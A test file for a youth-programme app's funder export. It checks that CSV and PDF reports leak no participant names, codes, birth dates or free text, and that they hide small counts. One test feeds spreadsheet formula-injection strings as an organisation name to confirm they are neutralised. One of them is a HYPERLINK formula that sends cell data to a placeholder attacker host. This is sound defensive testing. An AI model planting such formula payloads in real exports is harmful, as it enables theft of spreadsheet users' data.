// @vitest-environment node
/**
 * The funder export for a demo-like organisation: the CSV bytes and the PDF's
 * text (pdftotext) hold no participant name, code, date of birth or free
 * text, and no count of 1 or 2 people.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { TFunction } from 'i18next';
import { describe, expect, it } from 'vitest';
import en from '../../../locales/en/reports.json';
import lv from '../../../locales/lv/reports.json';
import type { Cohort } from '../../domain/cohort';
import type { Meeting } from '../../domain/meeting';
import type { Screening } from '../../domain/screening';
import { formatDate } from '../../i18n/format';
import { createFunderPdf } from '../../pdf/report-pdf';
import type { OrganisationData } from './api/queries';
import { buildFunderReport, funderCsvText } from './funder-export';

function tOf(messages: unknown): TFunction<'reports'> {
  const t = (key: string) => {
    const value = key
      .split('.')
      .reduce<unknown>((node, part) => (node as Record<string, unknown>)?.[part], messages);
    if (typeof value !== 'string') throw new Error(`missing text ${key}`);
    return value;
  };
  return t as unknown as TFunction<'reports'>;
}

const uuid = () => crypto.randomUUID();
const NAMES = [
  'Alise',
  'Beāte',
  'Diāna',
  'Elza',
  'Katrīna',
  'Laura',
  'Nora',
  'Artūrs',
  'Dāvis',
  'Kārlis',
];
const LEGAL = NAMES.map((n) => `${n} Bērziņa-Ozoliņa`);
const BIRTHDAYS = NAMES.map(
  (_, i) => `20${String(5 + i).padStart(2, '0')}-0${(i % 9) + 1}-1${i % 10}`,
);
const CODES = NAMES.map((_, i) => `L26-${String(i + 1).padStart(2, '0')}`);
const SECRETS = ['Moved to Liepāja with her aunt', 'I liked the pizza, Alise was kind'];

function organisation(): OrganisationData {
  const participants = NAMES.map((chosenName, i) => ({
    id: uuid(),
    code: CODES[i]!,
    chosenName,
    gender: 'girl' as const,
    birthYear: Number(BIRTHDAYS[i]!.slice(0, 4)),
    languages: ['lv'],
    createdAt: '2026-01-10T10:00:00.000Z',
  }));
  const cohort = (
    name: string,
    members: typeof participants,
    status: Cohort['status'],
  ): Cohort => ({
    id: uuid(),
    name,
    programmeId: 'lotus',
    facilitatorIds: [],
    place: '',
    room: '',
    weekday: 2,
    startTime: '16:00',
    durationMinutes: 90,
    firstDate: '2026-02-03',
    composition: 'girls',
    ageBand: { min: 14, max: 21 },
    capacity: 8,
    language: 'lv',
    status,
    participantIds: members.map((p) => p.id),
  });
  const a = cohort('Lotus — Rīga', participants.slice(0, 8), 'finished');
  const b = cohort('Mazā grupa', participants.slice(8), 'running');
  const meetings: Meeting[] = [a, b].flatMap((c) =>
    Array.from({ length: 10 }, (_, i) => ({
      id: uuid(),
      cohortId: c.id,
      number: i + 1,
      planId: `lotus-w${i + 1}`,
      date: `2026-0${3 + Math.floor(i / 4)}-${String(1 + (i % 4) * 7).padStart(2, '0')}`,
      startTime: '16:00',
      durationMinutes: 90,
      status: 'held' as const,
    })),
  );
  const attendance = meetings.flatMap((m, mi) => {
    const c = m.cohortId === a.id ? a : b;
    return c.participantIds.map((participantId, pi) => ({
      id: uuid(),
      meetingId: m.id,
      participantId,
      status: (mi + pi) % 5 === 0 ? ('absent' as const) : ('present' as const),
    }));
  });
  const withdrawn = participants[7]!;
  return {
    cohorts: [a, b],
    meetings,
    attendance,
    enrolments: [
      {
        id: uuid(),
        participantId: withdrawn.id,
        cohortId: a.id,
        status: 'withdrawn',
        enrolledOn: '2026-02-01',
        endedOn: '2026-03-20',
        endReason: SECRETS[0],
        createdAt: '2026-02-01T10:00:00.000Z',
      },
    ],
    referrals: participants.map((p, i) => ({
      id: uuid(),
      participantId: p.id,
      legalName: LEGAL[i]!,
      dateOfBirth: BIRTHDAYS[i]!,
      referrer: {
        role: 'social-worker',
        organisation: 'Sociālais dienests',
        contact: '+371 2000000',
      },
      reason: 'Referral reason in the referrer’s words',
      consent: { youngPerson: true, guardian: true },
      referredOn: '2026-01-15',
      createdAt: '2026-01-15T10:00:00.000Z',
    })),
    screenings: participants.map(
      (p, i) =>
        ({
          id: uuid(),
          participantId: p.id,
          outcome: i === 9 ? 'individual-support' : 'group',
          completedOn: '2026-01-20',
          createdAt: '2026-01-20T10:00:00.000Z',
        }) as Screening,
    ),
    participants,
    feedback: [
      {
        id: uuid(),
        kind: 'checkout',
        meetingId: meetings[0]!.id,
        cohortId: a.id,
        date: meetings[0]!.date,
        safe: 'yes',
        comment: SECRETS[1],
      },
    ],
    damaged: 0,
  };
}

function expectNothingPersonal(text: string) {
  const normalised = text.replace(/\s+/g, ' ');
  for (const s of [...NAMES, ...LEGAL, ...CODES, ...SECRETS, 'Sociālais dienests'])
    expect(normalised, `"${s}" in the export`).not.toContain(s);
  for (const d of BIRTHDAYS) {
    expect(normalised).not.toContain(d);
    expect(normalised).not.toContain(formatDate(d, 'lv'));
    expect(normalised).not.toContain(formatDate(d, 'en'));
  }
}

function valuesOf(report: ReturnType<typeof buildFunderReport>) {
  return report.sections.slice(1).flatMap((s) => s.rows.map((r) => r.value));
}

describe('funder export', () => {
  const data = organisation();
  const build = (lng: 'en' | 'lv') =>
    buildFunderReport({
      data,
      organisation: 'Biedrība «Ābeļzieds»',
      from: '2026-01-01',
      to: '2026-06-30',
      t: tOf(lng === 'en' ? en : lv),
      lng,
    });

  it('writes a CSV with no name, code, birth date or free text, and no count of 1 or 2', () => {
    const report = build('lv');
    const csv = funderCsvText(report, { section: 'Sadaļa', item: 'Rādītājs', value: 'Vērtība' });
    const bytes = new TextEncoder().encode(csv);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const decoded = new TextDecoder().decode(bytes);
    expect(decoded).toContain('Biedrība «Ābeļzieds»');
    expect(decoded).toContain('01.01.2026.');
    expectNothingPersonal(decoded);
    const values = valuesOf(report);
    for (const v of values) expect(v).not.toMatch(/^[12]$/);
    // Small numbers exist in this organisation and are shown suppressed.
    expect(values).toContain('<3');
    // Every row about people (all but the count of groups, which are not people).
    const peopleLines = decoded
      .trim()
      .split('\r\n')
      .slice(4)
      .filter((line) => !line.startsWith('"Grupas"'));
    expect(peopleLines.length).toBeGreaterThan(20);
    for (const line of peopleLines) expect(line.split(';')[2]).not.toMatch(/^"[12]"$/);
  });

  it("neutralises an organisation name a spreadsheet would run as a formula (read back by Python's csv module)", () => {
    const crafted = [
      '=HYPERLINK("http://evil.example/?"&A1;"Click")',
      '+1',
      '-2',
      '@SUM(1)',
      '\tTabbed',
      '\rReturn',
    ];
    const dir = mkdtempSync(path.join(tmpdir(), 'aplis-csv-'));
    for (const name of crafted) {
      const report = buildFunderReport({
        data,
        organisation: name,
        from: '2026-01-01',
        to: '2026-06-30',
        t: tOf(lv),
        lng: 'lv',
      });
      const file = path.join(dir, 'report.csv');
      writeFileSync(file, funderCsvText(report, { section: 'S', item: 'I', value: 'V' }));
      // An independent reader: Python's csv module, as a spreadsheet import would split it.
      const rows = JSON.parse(
        execFileSync(
          'python3',
          [
            '-c',
            'import csv,json,sys\n' +
              'with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:\n' +
              '  print(json.dumps(list(csv.reader(f, delimiter=";"))))',
            file,
          ],
          { encoding: 'utf8' },
        ),
      ) as string[][];
      expect(rows[0]![1]).toBe(`'${name}`);
      // Every row has three cells, and no cell anywhere starts a formula.
      expect(rows.length).toBeGreaterThan(20);
      for (const row of rows) {
        expect(row).toHaveLength(3);
        for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it('writes a PDF whose text holds the organisation and period but nothing about a person', async () => {
    const report = build('en');
    const fonts = {
      regular: readFileSync('public/fonts/NotoSans-Regular.ttf').toString('base64'),
      bold: readFileSync('public/fonts/NotoSans-Bold.ttf').toString('base64'),
    };
    const bytes = await createFunderPdf(report, fonts, 'en');
    const dir = mkdtempSync(path.join(tmpdir(), 'aplis-funder-'));
    const file = path.join(dir, 'report.pdf');
    writeFileSync(file, bytes);
    const text = execFileSync('pdftotext', ['-enc', 'UTF-8', file, '-'], { encoding: 'utf8' });
    expect(text).toContain('Biedrība «Ābeļzieds»');
    expect(text.replace(/\s+/g, ' ')).toContain('Young people in groups');
    expectNothingPersonal(text);
    expectNothingPersonal(new TextDecoder('latin1').decode(bytes));
    // Everything after the count of groups is about people.
    const aboutPeople = text.slice(text.indexOf('Referrals and safety screening'));
    expect(aboutPeople.length).toBeGreaterThan(200);
    const numbers = aboutPeople
      .split('\n')
      .map((l) => l.trim())
      .filter((l) => /^\d+$/.test(l));
    expect(numbers).not.toContain('1');
    expect(numbers).not.toContain('2');
  });
});
